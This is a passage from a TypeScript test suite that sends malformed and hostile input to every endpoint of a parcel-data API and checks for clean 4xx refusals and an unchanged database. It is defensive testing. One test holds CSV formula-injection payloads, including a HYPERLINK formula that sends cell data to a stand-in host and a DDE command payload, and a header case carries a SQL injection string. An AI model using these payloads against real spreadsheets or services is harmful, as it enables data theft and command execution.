import { FORMAT_IDS } from '../../../src/contracts/dataset-formats';
import { createHmac } from 'node:crypto';
import { STATUS_CODES } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import request from 'supertest';
import { authConfig } from '../../../src/config';
import { RateLimiter } from '../../../src/integrations/redis/rate-limiter.service';
import { JOURNEY_EVENTS } from '../../../src/contracts/journey';
import { DownloadTokens } from '../../../src/modules/downloads/download-token';
import { OrderPageLinks } from '../../../src/modules/orders/order-page-links';
import {
  closeAgent,
  EDGE_NUMBERS,
  EXTRA_FIELDS,
  hostileGzipFiles,
  hostileIds,
  hostileQueries,
  HOSTILE_ADMIN_CREDENTIALS,
  HOSTILE_CUSTOMER_CREDENTIALS,
  HOSTILE_TOKEN_CREDENTIALS,
  HOSTILE_STRINGS,
  hugeJson,
  inBatches,
  INVALID_UTF8,
  Labelled,
  LONG_STRINGS,
  MALFORMED_JSON,
  nestedArrayText,
  nestedObjectText,
  Raw,
  RAW_NUMBERS,
  RawRequest,
  RawResponse,
  send,
  toJson,
  UUIDS_OF_NOTHING,
  WRONG_TYPES,
  percentEncode,
  wrongContentTypes,
} from '../../support/hostile-input';
import { buy } from '../../support/purchase';
import { signIn } from '../../support/sign-in';
import { testStripe } from '../../support/stripe';
import { startTestWorker, TEST_ADMIN_PASSWORD, useTestApp } from '../../support/test-app';
import { eventually } from '../../support/eventually';
import { parseCsv } from '../../../src/common/csv';
import { WebClient } from '../../support/web-client';

/*
 * Issue 10, first bullet: every endpoint of the API receives malformed and hostile bodies,
 * query strings, path parameters and credentials. Each must be answered with a 4xx that follows
 * the error contract { statusCode, message, error } with a message a person can act on (or, where
 * a route takes no such input, be ignored: the same answer as without it), never a 5xx; and the
 * database must be exactly as it was afterwards.
 *
 * The endpoints come from the app's own OpenAPI document, so a new endpoint gets the generic
 * cases (hostile path parameters, bodies generated from its schema, forged credentials, cross-site
 * writes) without anyone writing them; the profiles below add what each known route needs: the
 * role that reaches its validation, ids of real rows, and what its fields accept.
 */

type Role = 'anonymous' | 'customer' | 'admin' | 'token';

type Family =
  | 'body field'
  | 'extra field'
  | 'whole body'
  | 'nesting'
  | 'raw body'
  | 'content type'
  | 'path'
  | 'query'
  | 'header'
  | 'credentials'
  | 'origin'
  | 'signature'
  | 'file';

type Expectation =
  /** A 4xx among `statuses`, in the error contract unless `contract` is false (Node's own 431). */
  | { kind: 'refused'; statuses: number[]; message?: RegExp; contract?: boolean }
  /** The route takes no such input: the same answer as the baseline request without it. */
  | { kind: 'ignored'; baseline: RawRequest }
  /** A sign-in route: a redirect that stays on this site. */
  | { kind: 'redirect' };

interface Case {
  endpoint: string;
  family: Family;
  name: string;
  req: RawRequest;
  expect: Expectation;
}

interface Outcome {
  kase: Case;
  status: number;
  problem: string | null;
}

interface FieldRule {
  /** Whether this field accepts the value (then it is no hostile case). */
  valid(value: unknown): boolean;
  /** Free text that is stored: odd values it accepts are checked to be stored literally. */
  storedText?: boolean;
  /** Arrays of objects: the rules and a valid value of each element. */
  element?: { rules: Record<string, FieldRule>; base: () => Record<string, unknown> };
}

interface BodyProfile {
  /** A valid body; `n` makes values that must differ per request (emails under a per-email limit). */
  base(n: number): Record<string, unknown>;
  rules: Record<string, FieldRule>;
  /** What a refused body is answered with. */
  refusal: number[];
  /** A text field to carry invalid UTF-8 bytes. */
  textField?: string;
  /** Every field is optional: an empty object is a valid body, not a hostile one. */
  allOptional?: boolean;
}

interface Profile {
  role: Role;
  /** Real values for the path parameters, and what kind of value each is. */
  params?: Record<string, { value: string; kind: 'uuid' | 'token' | 'tile'; extra?: Labelled<string>[] }>;
  body?: BodyProfile;
  /** A route without a body that changes something: only bodies its parser refuses may be sent with real ids. */
  acts?: boolean;
  /** The request hostile query strings are added to, and whether they must be ignored or refused. */
  queryProbe?: { req: () => RawRequest; expect: 'ignored' | 'redirect' | number[]; fields?: string[] };
  /** Declared query parameters with hostile values (the upload's release). */
  queryValues?: { field: string; values: Labelled<string>[]; statuses: number[] };
  /** Extra cases only this route has. */
  more?: () => Case[];
}

const ADDRESS_PREFIX = '10.77';
let addressCounter = 0;
/** A private address per request: the admin login and checkout limits are per address. */
const nextAddress = () => `${ADDRESS_PREFIX}.${Math.floor(++addressCounter / 250) % 250}.${(addressCounter % 250) + 1}`;

const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;
const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
const isText = (v: unknown): v is string => typeof v === 'string';
type MentionKey = { nameKey: unknown; mailKey: unknown };
/** Text a person could mean: not blank, no NUL (PostgreSQL cannot store it), no half of a surrogate pair. */
const isCleanText = (v: unknown, max: number) =>
  isText(v) && v.trim().length > 0 && v.trim().length <= max && !v.includes('\u0000') && !LONE_SURROGATE.test(v);
const isEmail = (v: unknown) => isText(v) && v.length <= 254 && /^[^\s@]+@[^\s@]+\.[a-z]{2,}$/i.test(v);
/** Metadata as the journey accepts it: a JSON object of at most 2 KB, without NUL or lone surrogates. */
function isSmallCleanObject(v: unknown): boolean {
  if (v === null || typeof v !== 'object' || Array.isArray(v)) return false;
  try {
    const text = JSON.stringify(v);
    return Buffer.byteLength(text) <= 2048 && !/\\u0000|\\ud[89a-f][0-9a-f]{2}/i.test(text.replaceAll('\\\\', ''));
  } catch {
    return false;
  }
}

/** Prometheus's token for GET /metrics in this run: every other credential must be refused there. */
const METRICS_TOKEN = `metrics-${'m'.repeat(40)}`;

describe('Hostile input to every endpoint', () => {
  const context = useTestApp({ listen: true, env: { METRICS_TOKEN } });
  let port: number;
  let origin: string;
  const cases: Case[] = [];
  const outcomes: Outcome[] = [];
  /** Answers to the requests that hostile additions must not change, keyed by request. */
  const baselines = new Map<string, RawResponse>();
  let before: Map<string, string>;
  let operations: { method: string; path: string; op: OpenApiOperation }[] = [];
  const oddValidText: { endpoint: string; field: string; label: string; value: string }[] = [];

  // Fixtures: real rows, so that the hostile part of a request is the only thing wrong with it.
  let adminToken: string;
  let customerCookie: string;
  let counties: {
    id: string;
    name: string;
    state: string;
    stateCode: string;
    population: number | null;
    fips: string;
  }[];
  let removedCountyId: string;
  let order: { id: string; pi: string; email: string; token: string };
  let otherOrder: { pi: string; email: string; subscriptionId: string };
  let pending: { pi: string; email: string; token: string };
  let trackerId: string;
  let snapshotId: string;
  let downloadToken: string | null;
  let downloadTokens: DownloadTokens;
  let webhookSecret: string;
  let trackerAutoRenew: boolean;
  let invoiceId: string;
  let otherInvoiceId: string;
  /** Batch appends (queued: no worker runs while the cases do) of the buyer and of another customer. */
  let buyerBatchId: string;
  let otherBatchId: string;
  /** An empty draft release: hostile source files are sent to it, and leave it empty. */
  let draftReleaseId: string;

  const api = () => request(context.store.server);
  const adminHeaders = () => ({ Authorization: `Bearer ${adminToken}` });
  const customerHeaders = () => ({ Cookie: customerCookie });
  /** Live API tokens of the buyer, taken in turn so that no one of them meets the per-token rate limit. */
  let apiTokens: string[] = [];
  let apiTokenIds: string[] = [];
  let nextApiToken = 0;
  let revokedApiToken: string;
  /** The buyer's live token that DELETE /api/tokens/{id} is sent, and another customer's. */
  let apiTokenId: string;
  let otherApiTokenId: string;
  /** The other customer's session: their one token is never used, so their list stays as it was. */
  let otherCustomerCookie: string;
  const tokenHeaders = () => ({ Authorization: `Bearer ${apiTokens[nextApiToken++ % apiTokens.length]}` });
  const roleHeaders = (role: Role): Record<string, string> =>
    role === 'admin'
      ? adminHeaders()
      : role === 'customer'
        ? customerHeaders()
        : role === 'token'
          ? tokenHeaders()
          : {};

  beforeAll(async () => {
    port = (context.store.server.address() as AddressInfo).port;
    origin = process.env.PUBLIC_URL as string;
    const stripe = await testStripe();
    webhookSecret = stripe.simulator.keys.webhookSecret;

    const login = await api()
      .post('/api/admin/login')
      .set('X-Forwarded-For', `${ADDRESS_PREFIX}.250.1`)
      .send({ password: TEST_ADMIN_PASSWORD })
      .expect(200);
    adminToken = login.body.token;

    counties = await context.store.db.query(
      `SELECT id, name, state, state_code AS "stateCode", population, fips FROM counties
       WHERE deleted_at IS NULL ORDER BY fips LIMIT 6`,
    );
    removedCountyId = counties[5].id;
    await api().delete(`/api/admin/counties/${removedCountyId}`).set(adminHeaders()).expect(200);
    draftReleaseId = (
      await api().post('/api/admin/releases').set(adminHeaders()).send({ month: '2038-01' }).expect(201)
    ).body.id;

    const stamp = Date.now();
    const buyerEmail = `hostile.buyer.${stamp}@example.com`;
    const orderId = await buy(context.store.server, buyerEmail, [
      { countyId: counties[1].id, purchaseType: 'one-time' },
      { countyId: counties[2].id, purchaseType: 'annual' },
    ]);
    const otherEmail = `hostile.other.${stamp}@example.com`;
    const otherOrderId = await buy(context.store.server, otherEmail, [
      { countyId: counties[1].id, purchaseType: 'annual' },
    ]);
    const pendingEmail = `hostile.pending.${stamp}@example.com`;
    const opened = await api()
      .post('/api/create-payment-intent')
      .set('X-Forwarded-For', `${ADDRESS_PREFIX}.250.2`)
      .send({
        email: pendingEmail,
        items: [{ countyId: counties[3].id, purchaseType: 'annual' }],
        acceptedLicense: true,
      })
      .expect(200);
    const intentOf = async (id: string) =>
      (await context.store.db.query(`SELECT stripe_payment_intent_id AS pi FROM orders WHERE id = $1`, [id]))[0]
        .pi as string;
    const links = context.store.app.get(OrderPageLinks);
    order = {
      id: orderId,
      pi: await intentOf(orderId),
      email: buyerEmail,
      token: (await links.forOrder(orderId)).token,
    };
    const [otherSubscription] = await context.store.db.query(
      `SELECT s.id FROM subscriptions s JOIN users u ON u.id = s.user_id WHERE u.email = $1`,
      [otherEmail],
    );
    otherOrder = { pi: await intentOf(otherOrderId), email: otherEmail, subscriptionId: otherSubscription.id };
    const invoiceOf = async (email: string) =>
      (
        await context.store.db.query(
          `SELECT i.id FROM invoices i JOIN orders o ON o.id = i.order_id WHERE o.email = $1`,
          [email],
        )
      )[0].id as string;
    [invoiceId, otherInvoiceId] = [await invoiceOf(buyerEmail), await invoiceOf(otherEmail)];
    pending = {
      pi: await intentOf(opened.body.orderId),
      email: pendingEmail,
      token: (await links.forOrder(opened.body.orderId)).token,
    };

    const web = new WebClient(origin);
    await signIn(web, { email: buyerEmail, firstName: 'Hostile' });
    customerCookie = web.cookieHeader();
    const mine = JSON.parse((await web.request('/api/subscriptions')).body) as {
      id: string;
      purchaseType: string;
      autoRenew: boolean;
    }[];
    const tracker = mine.find((s) => s.purchaseType === 'annual')!;
    trackerId = tracker.id;
    trackerAutoRenew = tracker.autoRenew;
    snapshotId = mine.find((s) => s.purchaseType === 'one-time')!.id;
    const link = await web.request(`/api/subscriptions/${snapshotId}/download-link`, { method: 'POST' });
    downloadToken = link.status === 200 ? (JSON.parse(link.body).url as string).split('/api/downloads/')[1] : null;
    downloadTokens = new DownloadTokens(context.store.app.get<{ sessionSecret: string }>(authConfig.KEY).sessionSecret);
    const makeToken = async (cookie: string, name: string) =>
      (await api().post('/api/tokens').set('Cookie', cookie).send({ name }).expect(201)).body as {
        id: string;
        token: string;
      };
    const revoked = await makeToken(customerCookie, 'Hostile, revoked');
    await api().delete(`/api/tokens/${revoked.id}`).set('Cookie', customerCookie).expect(200);
    revokedApiToken = revoked.token;
    const made = await Promise.all(Array.from({ length: 8 }, (_, i) => makeToken(customerCookie, `Hostile ${i}`)));
    apiTokens = made.map((t) => t.token);
    apiTokenIds = made.map((t) => t.id);
    apiTokenId = (await makeToken(customerCookie, 'Hostile, to revoke')).id;
    const otherWeb = new WebClient(origin);
    await signIn(otherWeb, { email: otherEmail });
    otherApiTokenId = (await makeToken(otherWeb.cookieHeader(), 'Another customer’s')).id;
    otherCustomerCookie = otherWeb.cookieHeader();
    const batchOf = async (cookie: string) =>
      (
        await api()
          .post('/api/parcel-batches')
          .set({ Cookie: cookie, 'Content-Type': 'text/csv' })
          .send('id,address\n1,1 Main St\n')
          .expect(202)
      ).body.id as string;
    buyerBatchId = await batchOf(customerCookie);
    otherBatchId = await batchOf(otherWeb.cookieHeader());

    const docs = await api().get('/api/docs-json').expect(200);
    operations = readOperations(docs.body);
    for (const { method, path, op } of operations) {
      cases.push(...casesFor(method, path, op, profileOf(method, path, op), docs.body));
    }
    cases.push(...metricsCases());

    await stripe.simulator.flushWebhooks();
    before = await fingerprint();
  }, 120_000);

  // Each family of cases starts with the buyer's tokens' rate limits fresh: the families send more
  // requests with tokens than their limits allow in a minute, and a 429 would hide the answer tried.
  beforeEach(async () => {
    const limiter = context.store.app.get(RateLimiter);
    for (const id of apiTokenIds) await limiter.reset(['api-token', id]);
  });

  afterAll(() => {
    closeAgent();
    printSummary();
  });

  /**
   * GET /metrics is outside the API document: credentials that are not Prometheus's token, the
   * other roles' real ones included, and hostile query strings (read only after the token) get 401.
   */
  function metricsCases(): Case[] {
    const endpoint = 'GET /metrics';
    const refused: Expectation = { kind: 'refused', statuses: [401], message: /METRICS_TOKEN/ };
    const credentials: Labelled<Record<string, string>>[] = [
      ...HOSTILE_ADMIN_CREDENTIALS,
      ...HOSTILE_TOKEN_CREDENTIALS.filter(({ label }) => !HOSTILE_ADMIN_CREDENTIALS.some((a) => a.label === label)),
      { label: 'a live admin token', value: adminHeaders() },
      { label: 'a customer session', value: customerHeaders() },
      { label: 'a live API token', value: tokenHeaders() },
      { label: 'the metrics token cut short', value: { Authorization: `Bearer ${METRICS_TOKEN.slice(0, -1)}` } },
      { label: 'the metrics token and more', value: { Authorization: `Bearer ${METRICS_TOKEN} ${METRICS_TOKEN}` } },
      { label: 'the metrics token without a scheme', value: { Authorization: METRICS_TOKEN } },
      { label: 'the metrics token in a cookie', value: { Cookie: `token=${METRICS_TOKEN}` } },
      { label: 'the metrics token in upper case', value: { Authorization: `Bearer ${METRICS_TOKEN.toUpperCase()}` } },
    ];
    return [
      ...credentials.map(({ label, value }) => ({
        endpoint,
        family: 'credentials' as const,
        name: label,
        req: { method: 'GET', target: '/metrics', headers: value },
        expect: refused,
      })),
      ...hostileQueries('name').map(({ label, value }) => ({
        endpoint,
        family: 'query' as const,
        name: label,
        req: { method: 'GET', target: `/metrics?${value}`, headers: {} },
        expect: refused,
      })),
    ];
  }

  // -------------------------------------------------------------------------------------------
  // The tests

  it('generates at least 2,000 cases, covering every endpoint of the OpenAPI document and the routes it omits', () => {
    expect(cases.length).toBeGreaterThanOrEqual(2_000);
    const covered = new Set(cases.map((c) => c.endpoint));
    for (const { method, path } of operations) expect(covered).toContain(`${method} ${path}`);
    for (const required of [
      'POST /api/stripe/webhook',
      'GET /data-schema.pdf',
      'GET /api/login',
      'GET /api/login/callback',
      'GET /api/downloads/{token}',
      'GET /api/orders/{token}',
      'GET /metrics',
    ]) {
      expect(covered).toContain(required);
    }
    for (const endpoint of covered) expect(cases.filter((c) => c.endpoint === endpoint).length).toBeGreaterThan(10);
  });

  it('refuses malformed and hostile JSON bodies with a 4xx and a clear message', async () => {
    await runFamilies(['body field', 'extra field', 'whole body', 'nesting', 'raw body', 'content type']);
  }, 180_000);

  it('refuses path parameters that are not ids, or ids of nothing', async () => {
    await runFamilies(['path']);
  }, 120_000);

  it('ignores query strings where a route takes none, and refuses hostile values where it does', async () => {
    await runFamilies(['query', 'header']);
  }, 120_000);

  it('refuses forged credentials, cross-site writes and unsigned webhooks', async () => {
    await runFamilies(['credentials', 'origin', 'signature']);
  }, 120_000);

  it('refuses county files that are not gzip CSVs of the county, and other content types', async () => {
    await runFamilies(['file']);
  }, 120_000);

  it('leaves every table as it was (sessions aside)', async () => {
    // Anything the requests set off at Stripe has come back as webhooks by now.
    await (await testStripe()).simulator.flushWebhooks();
    const after = await fingerprint();
    const rows = (print?: string) => print?.split(':')[0];
    const changed = [...before.keys()]
      .filter((table) => before.get(table) !== after.get(table))
      .map((table) => `${table} (${rows(before.get(table))} rows before, ${rows(after.get(table))} after)`);
    expect(changed).toEqual([]);
    expect([...after.keys()].sort()).toEqual([...before.keys()].sort());
  });

  // Runs after the fingerprint: these requests are meant to change the county and the journey.
  it('stores odd but valid text, SQL and markup included, literally and without side effects', async () => {
    // What these requests may change: the counties they edit, the audit log, the journey; nothing else.
    const elsewhere = async () =>
      [...(await fingerprint())].filter(([table]) => !['counties', 'audit_log', 'journey_events'].includes(table));
    const untouched = await elsewhere();
    const countBefore = (await context.store.db.query(`SELECT count(*)::int AS n FROM counties`))[0].n;
    const texts = oddValidText.filter((t) => t.endpoint === 'PUT /api/admin/counties/{id}' && t.field === 'name');
    expect(texts.length).toBeGreaterThan(10);
    // One county per text, all at once: each edit rebuilds the public catalog, and concurrent rebuilds coalesce.
    const targets: typeof counties = await context.store.db.query(
      `SELECT id, name, state, state_code AS "stateCode", population, fips FROM counties
       WHERE deleted_at IS NULL ORDER BY fips DESC LIMIT $1`,
      [texts.length],
    );
    const put = (county: (typeof counties)[number], name: string, state = county.state) =>
      api()
        .put(`/api/admin/counties/${county.id}`)
        .set(adminHeaders())
        .send({ name, state, stateCode: county.stateCode, population: county.population });
    const answers = await Promise.all(texts.map(({ value }, i) => put(targets[i], value, value)));
    const catalog = (await api().get('/api/counties').expect(200)).body as {
      id: string;
      name: string;
      state: string;
    }[];
    for (const [i, { label, value }] of texts.entries()) {
      const expected = { label, status: 200, name: value.trim(), state: value.trim() };
      expect({ label, status: answers[i].status, name: answers[i].body.name, state: answers[i].body.state }).toEqual(
        expected,
      );
      const [row] = await context.store.db.query(`SELECT name, state FROM counties WHERE id = $1`, [targets[i].id]);
      expect({ label, status: 200, ...row }).toEqual(expected);
      const listed = catalog.find((c) => c.id === targets[i].id);
      expect({ label, status: 200, name: listed?.name, state: listed?.state }).toEqual(expected);
    }
    await Promise.all(targets.map((county) => put(county, county.name).expect(200)));
    expect((await context.store.db.query(`SELECT count(*)::int AS n FROM counties`))[0].n).toBe(countBefore);

    const visitorId = '3b241101-e2bb-4255-8caf-4136c566a962';
    const notes = oddValidText.filter((t) => t.endpoint === 'POST /api/journey-events');
    expect(notes.length).toBeGreaterThan(10);
    for (const { label, value } of notes) {
      const res = await send(port, {
        method: 'POST',
        target: '/api/journey-events',
        headers: { 'Content-Type': 'application/json', 'X-Forwarded-For': nextAddress() },
        body: JSON.stringify({ visitorId, event: 'landing_view', metadata: { note: value } }),
      });
      expect({ label, status: res.status }).toEqual({ label, status: 202 });
    }
    const stored: { note: string }[] = await context.store.db.query(
      `SELECT metadata->>'note' AS note FROM journey_events WHERE visitor_id = $1`,
      [visitorId],
    );
    expect(stored.map((r) => r.note).sort()).toEqual(notes.map((n) => n.value).sort());
    expect(await elsewhere()).toEqual(untouched);
  }, 60_000);

  // Runs after the fingerprint: a worker matches the batch, which changes its row.
  it('writes a batch result whose hostile cells a spreadsheet takes as text, never as formulas', async () => {
    const worker = await startTestWorker(context.environment);
    try {
      const hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
        "=cmd|' /C calc'!A0",
        '+SUM(1+1)',
        '-2+3',
        '@SUM(A1:A9)',
        '\t=1+1',
        '\r=1+1',
        '  =1+1',
      ];
      const quoted = (value: string) => `"${value.replace(/"/g, '""')}"`;
      const body = [
        'id,address,note',
        ...hostile.map((value) => [quoted(value), '1 Main St', quoted(value)].join(',')),
      ].join('\n');
      const sent = await send(port, {
        method: 'POST',
        target: '/api/v1/batches',
        headers: { 'X-Forwarded-For': nextAddress(), 'Content-Type': 'text/csv', ...tokenHeaders() },
        body,
      });
      expect(sent.status).toBe(202);
      const id = (sent.json as { id: string }).id;
      await eventually(async () => {
        const [row] = await context.store.db.query(`SELECT status FROM parcel_batches WHERE id = $1`, [id]);
        return row.status === 'done' || row.status === 'failed';
      }, 30_000);
      const result = await send(port, {
        method: 'GET',
        target: `/api/v1/batches/${id}/result`,
        headers: tokenHeaders(),
      });
      expect(result.status).toBe(200);
      const [header, ...rows] = parseCsv(result.text);
      expect(header.slice(0, 6)).toEqual(['id', 'address', 'note', 'parcel_key', 'match_kind', 'match_score']);
      expect(rows.map((row) => [row[0], row[2]])).toEqual(hostile.map((value) => [`'${value}`, `'${value}`]));
    } finally {
      await worker.close();
    }
  }, 60_000);

  // -------------------------------------------------------------------------------------------
  // Running and checking

  async function runFamilies(families: Family[]): Promise<void> {
    const selected = cases.filter((c) => families.includes(c.family));
    expect(selected.length).toBeGreaterThan(0);
    // Baselines for the cases that must be ignored: the same request without the hostile part, sent now.
    baselines.clear();
    for (const c of selected) {
      if (c.expect.kind === 'ignored' && !baselines.has(keyOf(c.expect.baseline))) {
        baselines.set(keyOf(c.expect.baseline), await send(port, c.expect.baseline));
      }
    }
    const results = await inBatches(selected, 20, async (kase): Promise<Outcome> => {
      try {
        const res = await send(port, kase.req);
        return { kase, status: res.status, problem: problemWith(kase, res) };
      } catch (error) {
        return { kase, status: 0, problem: `no answer: ${(error as Error).message}` };
      }
    });
    outcomes.push(...results);
    const problems = results.filter((r) => r.problem);
    const lines = problems.map((r) => `${r.kase.endpoint} | ${r.kase.family} | ${r.kase.name} → ${r.problem}`);
    const shown = lines.slice(0, 200);
    if (lines.length > shown.length) shown.push(`… and ${lines.length - shown.length} more`);
    expect(shown).toEqual([]);
  }

  function problemWith(kase: Case, res: RawResponse): string | null {
    const snippet = res.text.length > 160 ? `${res.text.slice(0, 160)}…` : res.text;
    if (res.status >= 500) return `${res.status} ${snippet}`;
    const expectation = kase.expect;
    if (expectation.kind === 'refused') {
      if (!expectation.statuses.includes(res.status)) {
        return `expected ${expectation.statuses.join(' or ')}, got ${res.status} ${snippet}`;
      }
      if (expectation.contract === false) return null;
      const body = res.json as { statusCode?: unknown; message?: unknown; error?: unknown } | undefined;
      if (
        !body ||
        body.statusCode !== res.status ||
        body.error !== STATUS_CODES[res.status] ||
        typeof body.message !== 'string' ||
        !/application\/json/.test(String(res.headers['content-type']))
      ) {
        return `not the error contract: ${snippet}`;
      }
      if (expectation.message) {
        // A message the contract fixes (the store's pages look for "Unauthorized" in a 401).
        return expectation.message.test(body.message)
          ? null
          : `message "${body.message}" does not match ${expectation.message}`;
      }
      if (!body.message.trim() || body.message === body.error) {
        return `no message a person can act on: "${body.message}"`;
      }
      return null;
    }
    if (expectation.kind === 'ignored') {
      const baseline = baselines.get(keyOf(expectation.baseline))!;
      if (res.status !== baseline.status)
        return `expected the same ${baseline.status} as without it, got ${res.status} ${snippet}`;
      if (res.status >= 300 && res.status < 400) {
        // A fresh download link differs in its token only.
        const where = (r: RawResponse) =>
          new URL(String(r.headers.location), origin).pathname.replace(/\/api\/downloads\/[^/]+$/, '/api/downloads/…');
        return where(res) === where(baseline)
          ? null
          : `redirected to ${String(res.headers.location)}, not as without it`;
      }
      return comparable(res) === comparable(baseline) ? null : `a different answer than without it: ${snippet}`;
    }
    const location = String(res.headers.location ?? '');
    if (res.status !== 302 && res.status !== 303) return `expected a redirect, got ${res.status} ${snippet}`;
    const target = new URL(location, origin);
    return target.origin === origin ? null : `redirected off the site, to ${location}`;
  }

  /** Every table's rows, hashed. `sessions` is left out: signing in writes it, and each signed-in request rolls its expiry. */
  async function fingerprint(): Promise<Map<string, string>> {
    const tables: { name: string }[] = await context.store.db.query(
      `SELECT table_name AS name FROM information_schema.tables
       WHERE table_schema = 'public' AND table_type = 'BASE TABLE' AND table_name <> 'sessions' ORDER BY 1`,
    );
    const prints = new Map<string, string>();
    for (const { name } of tables) {
      // Refused staff sign-ins are audited as they happen (security audit finding 3); other audit entries are changes.
      const where = name === 'audit_log' ? `WHERE action NOT LIKE 'session.%'` : '';
      // Any request with an API token records its last use; that is not a change the request made.
      const text = name === 'api_tokens' ? `(to_jsonb(t) - 'last_used_at')::text` : 't::text';
      const [row] = await context.store.db.query(
        `SELECT count(*)::int AS n, md5(coalesce(string_agg(${text}, ',' ORDER BY ${text}), '')) AS hash FROM "${name}" t ${where}`,
      );
      prints.set(name, `${row.n}:${row.hash}`);
    }
    return prints;
  }

  function printSummary(): void {
    if (outcomes.length === 0) return;
    const byEndpoint = new Map<string, Map<number, number>>();
    for (const { kase, status } of outcomes) {
      const statuses = byEndpoint.get(kase.endpoint) ?? new Map<number, number>();
      statuses.set(status, (statuses.get(status) ?? 0) + 1);
      byEndpoint.set(kase.endpoint, statuses);
    }
    const width = Math.max(...[...byEndpoint.keys()].map((e) => e.length));
    const rows = [...byEndpoint]
      .sort(([a], [b]) => a.localeCompare(b))
      .map(([endpoint, statuses]) => {
        const total = [...statuses.values()].reduce((a, b) => a + b, 0);
        const seen = [...statuses]
          .sort(([a], [b]) => a - b)
          .map(([status, n]) => `${status || 'none'}×${n}`)
          .join(' ');
        return `${endpoint.padEnd(width)}  ${String(total).padStart(5)}  ${seen}`;
      });
    const all = new Map<number, number>();
    for (const { status } of outcomes) all.set(status, (all.get(status) ?? 0) + 1);
    const count = (kind: Expectation['kind']) => outcomes.filter((o) => o.kase.expect.kind === kind).length;
    console.log(
      [
        'Hostile input: figures',
        `${'endpoint'.padEnd(width)}  cases  statuses seen`,
        ...rows,
        '',
        `inputs tried: ${outcomes.length} (of ${cases.length} generated) on ${byEndpoint.size} endpoints`,
        `expected refused: ${count('refused')}, ignored: ${count('ignored')}, redirected: ${count('redirect')}`,
        `statuses seen: ${[...all]
          .sort(([a], [b]) => a - b)
          .map(([s, n]) => `${s || 'none'}×${n}`)
          .join(' ')}`,
        `5xx answers: ${outcomes.filter((o) => o.status >= 500).length}`,
        `inputs by kind: ${[...new Set(outcomes.map((o) => o.kase.family))]
          .map((family) => `${family} ${outcomes.filter((o) => o.kase.family === family).length}`)
          .join(', ')}`,
        `cases not answered as they should be: ${outcomes.filter((o) => o.problem).length}`,
      ].join('\n'),
    );
  }

  // -------------------------------------------------------------------------------------------
  // Profiles: what each known route needs to reach its validation

  function profileOf(method: string, path: string, op: OpenApiOperation): Profile {
    const nothing = UUIDS_OF_NOTHING[0].value;
    const json = { 'Content-Type': 'application/json' };
    const probe = (req: Omit<RawRequest, 'headers'> & { headers?: Record<string, string> }) => (): RawRequest => ({
      ...req,
      headers: { 'X-Forwarded-For': nextAddress(), ...req.headers },
    });
    const county = counties[0];
    const countyBody = () => ({
      name: county.name,
      state: county.state,
      stateCode: county.stateCode,
      population: county.population,
    });
    const orderToken = {
      value: order.token,
      kind: 'token' as const,
      extra: [
        { label: 'an unpaid order’s token', value: pending.token },
        { label: 'a token with its MAC cut short', value: order.token.slice(0, -4) },
        { label: 'a token with another MAC', value: `${order.id}.${pending.token.split('.')[1]}` },
        { label: 'a token with a part more', value: `${order.token}.x` },
        { label: 'a token of the order id alone', value: order.id },
        { label: 'a token in upper case', value: order.token.toUpperCase() },
      ],
    };
    const subscriptionOfOrder = {
      value: snapshotId,
      kind: 'uuid' as const,
      extra: [{ label: 'a subscription of another order', value: otherOrder.subscriptionId }],
    };
    const customerSubscription = {
      value: snapshotId,
      kind: 'uuid' as const,
      extra: [{ label: 'another customer’s subscription', value: otherOrder.subscriptionId }],
    };
    const key = `${method} ${path}`;
    const get = (target: string, role: Role = 'anonymous'): Profile => ({
      role,
      queryProbe: { req: probe({ method: 'GET', target, headers: roleHeaders(role) }), expect: 'ignored' },
    });

    switch (key) {
      case 'GET /api/health':
      case 'GET /api/plans':
      case 'GET /api/formats':
      case 'GET /api/schema':
      case 'GET /api/checkout/config':
      case 'GET /data-schema.pdf':
      case 'GET /api/coverage.csv':
        return get(path);
      case 'GET /api/counties':
        return {
          ...get(path),
          more: () =>
            ['W/"hostile"', `"${'e'.repeat(5_000)}"`, "' OR 1=1 --", '"a", "b", "c"', '\u00ff'].map((tag) => ({
              endpoint: key,
              family: 'header' as const,
              name: `If-None-Match: ${tag.slice(0, 30)}`,
              req: { method: 'GET', target: path, headers: { 'If-None-Match': tag } },
              expect: { kind: 'ignored' as const, baseline: { method: 'GET', target: path, headers: {} } },
            })),
        };
      case 'GET /api/subscriptions':
      case 'GET /api/auth/user':
      case 'GET /api/invoices':
        return get(path, 'customer');
      case 'GET /api/tokens':
        // The other customer's list: the buyer's tokens record their use once a minute while the cases run.
        return {
          role: 'customer',
          queryProbe: {
            req: probe({ method: 'GET', target: path, headers: { Cookie: otherCustomerCookie } }),
            expect: 'ignored',
          },
        };
      case 'GET /api/v1/subscriptions':
      case 'GET /api/v1/webhooks':
        return get(path, 'token');
      case 'GET /api/webhooks':
        return get(path, 'customer');
      case 'GET /api/v1/changes':
        // A county and a release, each checked before anything is looked up; the next of the buyer's tokens each time.
        return {
          role: 'token',
          queryProbe: {
            req: () => ({
              method: 'GET',
              target: `${path}?county=10001&since=2026-01`,
              headers: { 'X-Forwarded-For': nextAddress(), ...roleHeaders('token') },
            }),
            expect: [400],
            fields: ['county', 'since', 'types'],
          },
        };
      case 'GET /api/v1/releases/{month}/manifest.json':
        // A month, not an id: a malformed one is refused with 400 (test/e2e/formats/dataset-formats).
        return get('/api/v1/releases/2001-01/manifest.json', 'token');
      case 'GET /api/admin/parcels':
        return {
          role: 'admin',
          queryProbe: {
            req: probe({ method: 'GET', target: `${path}?address=1%20Main%20St`, headers: adminHeaders() }),
            expect: [400],
            fields: ['lat', 'bbox', 'cursor'],
          },
        };
      case 'GET /api/admin/parcels/{parcelKey}':
        return {
          role: 'admin',
          params: { parcelKey: { value: '24510A1', kind: 'token' } },
          queryProbe: {
            req: probe({ method: 'GET', target: '/api/admin/parcels/24510A1', headers: adminHeaders() }),
            expect: [400],
            fields: ['fields'],
          },
        };
      case 'GET /api/v1/parcels/{parcelKey}':
        // fields= is its one parameter: others, and hostile values of it, are refused.
        return {
          role: 'token',
          params: { parcelKey: { value: '24510A1', kind: 'token' } },
          queryProbe: {
            req: probe({ method: 'GET', target: '/api/v1/parcels/24510A1', headers: roleHeaders('token') }),
            expect: [400],
            fields: ['fields'],
          },
        };
